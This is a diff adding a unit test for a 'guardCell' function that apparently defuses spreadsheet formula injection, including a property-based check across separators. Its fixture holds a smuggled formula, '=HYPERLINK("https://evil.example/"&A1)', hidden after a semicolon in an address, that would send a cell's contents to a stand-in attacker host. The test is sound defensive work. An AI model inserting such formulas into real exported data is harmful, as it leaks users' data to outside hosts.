@@ -42,6 +42,20 @@ describe('a guarded cell', () => {
     },
   );
 
+  it('FM-75 has no formula behind what a spreadsheet with other separators splits it at', () => {
+    const address = '1 Main St;=HYPERLINK("https://evil.example/"&A1);x';
+    expect(guardCell(address)).toBe(`1 Main St;'=HYPERLINK("https://evil.example/"&A1);x`);
+    expect(guardCell('Box\n=1+1\r\n\t@SUM(1)')).toBe("Box\n'=1+1\r\n\t'@SUM(1)");
+    expect(guardCell("a;b\nc 'quoted' 5-6")).toBe("a;b\nc 'quoted' 5-6");
+    fc.assert(
+      fc.property(hostile, (text) => {
+        for (const part of guardCell(text).split(/[;\t\r\n]/))
+          expect(part).not.toMatch(/^[ \u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
+      }),
+      { numRuns: 20_000 },
+    );
+  });
+
   it('has no apostrophe where the text is harmless', () => {
     for (const text of ['A-17', '12 Main St', '007', '1e5', 'O’Neill', ''])
       expect(guardCell(text)).toBe(text);
